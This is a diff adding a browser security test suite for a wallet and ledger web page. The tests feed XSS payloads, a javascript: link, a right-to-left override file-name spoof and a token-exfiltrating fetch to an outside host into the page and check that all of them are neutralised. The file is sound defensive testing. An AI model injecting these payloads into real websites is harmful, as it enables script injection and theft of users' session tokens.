@@ -1,0 +1,137 @@
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { hasNoBrowser } from '../browser.ts';
+import { Site, type Tab } from './tab.ts';
+
+const SCRIPT = `<img src=x onerror="window.ran=1"><script>window.ran=1</script>`;
+const LINK = 'javascript:window.ran=1';
+/** Turns the direction of everything after it, unless it is isolated. */
+const TURNED = '\u202Egnp.exe';
+const PATHS = ['wallet', 'wallet/offers', 'wallet/history', 'wallet/send', 'wallet/coins', 'ledger', 'ledger/updates'];
+
+describe.skipIf(hasNoBrowser)('the page and hostile texts', () => {
+  let site: Site;
+  beforeAll(async () => {
+    site = await Site.open({ start: { parties: [{ name: 'alice', coins: [10] }] } });
+    for (const [user, text] of [
+      [SCRIPT, 'a name'],
+      ['bob', SCRIPT],
+      ['bob', LINK],
+      ['bob', TURNED],
+    ] as const)
+      await offered(user, text);
+  });
+  afterEach(() => site.closeTabs());
+  afterAll(() => site?.close());
+
+  async function asked(path: string, token: string, body: unknown): Promise<Response> {
+    const headers = { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` };
+    const answer = await site.server.fetch(path, { method: 'POST', headers, body: JSON.stringify(body) });
+    expect(answer.status, path).toBe(200);
+    return answer;
+  }
+
+  /** Onboards a user, who offers coin to alice. */
+  async function offered(user: string, description: string): Promise<void> {
+    const { token } = (await (await asked('/dev/tokens', 'none', { user })).json()) as { token: string };
+    await asked('/v0/register', token, {});
+    await asked('/v0/wallet/tap', token, { amount: '1' });
+    await asked('/v0/wallet/token-standard/transfers', token, {
+      receiver_party_id: site.server.party('alice'),
+      amount: '1.0',
+      description,
+      expires_at: Number(site.server.now) + 3_600_000_000,
+      tracking_id: `${user}-${description}`,
+    });
+  }
+
+  async function expectHarmless({ page, faults }: Tab): Promise<void> {
+    expect(await page.evaluate('window.ran')).toBeUndefined();
+    expect(await page.locator('#page img, #page script, #page a[href^="javascript"]').count()).toBe(0);
+    expect(faults).toEqual([]);
+  }
+
+  it('shows names and texts of strangers as text on every screen', async () => {
+    const tab = await site.tab('#/wallet?user=alice');
+    const offers = tab.page.getByRole('table', { name: 'Incoming offers' });
+    await offers.getByText(SCRIPT).waitFor();
+    await offers.getByText(LINK).waitFor();
+    // The direction of a text ends with the text.
+    expect(await offers.locator('bdi', { hasText: TURNED }).count()).toBe(1);
+    for (const path of PATHS) {
+      await tab.open(`#/${path}?user=alice`);
+      await expectHarmless(tab);
+    }
+  });
+
+  it('shows a hostile user name as text', async () => {
+    const tab = await site.tab(`#/wallet?user=${encodeURIComponent(SCRIPT)}`);
+    await tab.page.getByRole('button', { name: SCRIPT }).first().click();
+    await tab.page.getByRole('dialog').waitFor();
+    await expectHarmless(tab);
+  });
+
+  it.each(['user', 'party', 'text', 'contract', 'template', 'at', 'log', 'kind'])(
+    'shows a hostile parameter %s of the address as text',
+    async (name) => {
+      const tab = await site.tab(`#/ledger?user=alice`);
+      await tab.open(`#/ledger?${name}=${encodeURIComponent(SCRIPT)}`);
+      await tab.open(`#/ledger/updates?${name}=${encodeURIComponent(SCRIPT)}`);
+      await expectHarmless(tab);
+    },
+  );
+
+  it('shows the refusal of a hostile token as text, and sends it nowhere else', async () => {
+    const tab = await site.tab('#/wallet');
+    const claims = Buffer.from(JSON.stringify({ sub: SCRIPT })).toString('base64url');
+    for (const token of [SCRIPT, `${claims}.${claims}.${claims}`]) {
+      await tab.page.getByLabel('Paste a token').fill(token);
+      await tab.page.getByRole('button', { name: 'Sign in' }).click();
+      await tab.page.getByRole('alert').waitFor();
+    }
+    await expectHarmless(tab);
+    expect(await tab.page.evaluate('localStorage.length')).toBe(0);
+  });
+
+  it('keeps a token in the tab only', async () => {
+    const tab = await site.tab('#/wallet?user=alice');
+    expect(await tab.page.evaluate('[localStorage.length, document.cookie, location.href.includes("eyJ")]')).toEqual([
+      0,
+      '',
+      false,
+    ]);
+    expect(await tab.page.evaluate('sessionStorage.length')).toBe(1);
+  });
+
+  it('runs no script that reaches the document, and sends nothing to other servers', async () => {
+    const tab = await site.tab('#/wallet?user=alice');
+    const refused = await tab.page.evaluate(`(async () => {
+      const tries = {
+        html: () => (document.body.innerHTML = '<img src=x onerror="window.ran=1">'),
+        // The browser lets a program that debugs it evaluate code, but not a later task of the page.
+        code: () => new Promise((resolve, reject) => setTimeout(() => {
+          try { resolve(eval('window.ran = 1')); } catch (error) { reject(error); }
+        })),
+        inline: () => { const s = document.createElement('script'); s.text = 'window.ran = 1'; document.body.append(s); },
+        elsewhere: () => fetch('https://example.com/?token=' + sessionStorage.length),
+      };
+      const found = [];
+      for (const [name, run] of Object.entries(tries)) await Promise.resolve().then(run).catch(() => found.push(name));
+      return found;
+    })()`);
+    expect(refused).toEqual(['html', 'code', 'inline', 'elsewhere']);
+    expect(await tab.page.evaluate('window.ran')).toBeUndefined();
+    const hosts = new Set(tab.hosts);
+    expect([...hosts]).toEqual([new URL(site.listening.url).host]);
+  });
+
+  it('is served with a policy that allows nothing but its own files', async () => {
+    const answer = await site.server.fetch('/', { headers: { Accept: 'text/html' } });
+    const policy = answer.headers.get('content-security-policy') ?? '';
+    expect(policy).toContain("default-src 'none'");
+    expect(policy).toContain("script-src 'self';");
+    expect(policy).toContain("require-trusted-types-for 'script'; trusted-types 'none'");
+    expect(policy).not.toMatch(/unsafe|\*|https?:/);
+    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(answer.headers.get('referrer-policy')).toBe('no-referrer');
+  });
+});
